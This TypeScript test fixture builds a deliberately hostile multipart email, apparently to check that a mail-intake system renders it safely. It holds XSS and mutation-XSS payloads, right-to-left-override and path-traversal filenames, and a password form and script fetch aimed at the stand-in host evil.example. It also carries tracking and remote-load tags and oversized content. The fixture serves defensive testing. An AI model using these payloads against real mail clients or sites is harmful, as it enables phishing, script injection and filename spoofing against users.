/** What a list of cases must show of its subject: the words, without what would turn them around. */
export const hostileSubject =
  '<script>document.title="owned"</script> gpj.exe "><img src=x onerror=alert(1)>';

const subject = `<script>document.title="owned"</script> \u202egpj.exe\u202c "><img src=x onerror=alert(1)>`;

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

const words = [
  'The agency does not answer. We told them on 3 March and 5 April; order 100482 is wrong since then.',
  '<script>document.title = "owned"</script> </div></main><h1>Signed out</h1><form action=//evil.example>',
  '\u202eevil.example/login\u202c and \u2066isolated',
  'W'.repeat(3000),
  'javascript:alert(1) https://evil.example/?token=1',
].join('\r\n\r\n');

const giantTable = `<table width="99999">${'<tr>'.padEnd(4 + 9 * 400, '<td>cell!')}</tr></table>`;

const html = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/back.png)} *{position:fixed;inset:0;z-index:9}</style>
<link rel="stylesheet" href="https://evil.example/sheet.css"><link rel="prefetch" href="https://evil.example/next"></head>
<body onload="alert(1)" background="https://evil.example/body.png">
<p>The agency does not answer. We told them on 3 March and 5 April; order 100482 is wrong since then.</p>
<script>top.document.title = "owned"; fetch("https://evil.example/script")</script>
<img src="https://evil.example/pixel.png" onerror="alert(1)"><img srcset="https://evil.example/set.png 1x">
<svg onload="alert(1)"><image href="https://evil.example/svg.png"/></svg><video src="https://evil.example/v.mp4" autoplay></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<form action="https://evil.example/form" method="post"><input name="password"><button>Sign in</button></form>
<a href="https://evil.example/link" target="_top">Your account</a> <a href="javascript:alert(1)">open</a>
<div style="position:fixed;inset:0;background:url('https://evil.example/style.png');z-index:99999">over everything</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
${giantTable}</body></html>`;

const base64 = (text: string): string =>
  (
    Buffer.from(text)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');

const boundary = 'hostile';

const part = (head: readonly string[], text: string): string =>
  [`--${boundary}`, ...head, 'Content-Transfer-Encoding: base64', '', base64(text)].join('\r\n');

/** Script, style, pictures of elsewhere, frames, forms, a giant table, endless words and marks that turn the reading direction. */
export const hostileMail = [
  `From: ${encoded('Mallory \u202e<b>')} <jane@shop.example>`,
  'To: escalations@intake.example',
  `Subject: ${encoded(subject)}`,
  'Message-ID: <hostile@shop.example>',
  'MIME-Version: 1.0',
  `Content-Type: multipart/mixed; boundary="${boundary}"`,
  '',
  `--${boundary}`,
  'Content-Type: multipart/alternative; boundary="inner"',
  '',
  part(['Content-Type: text/plain; charset=utf-8'], words).replace(`--${boundary}`, '--inner'),
  part(['Content-Type: text/html; charset=utf-8'], html).replace(`--${boundary}`, '--inner'),
  '--inner--',
  part(
    [
      'Content-Type: text/html',
      `Content-Disposition: attachment; filename="${encoded('../../invoice\u202efdp.exe')}"`,
    ],
    '<script>top.document.title = "owned"</script>',
  ),
  `--${boundary}--`,
  '',
].join('\r\n');
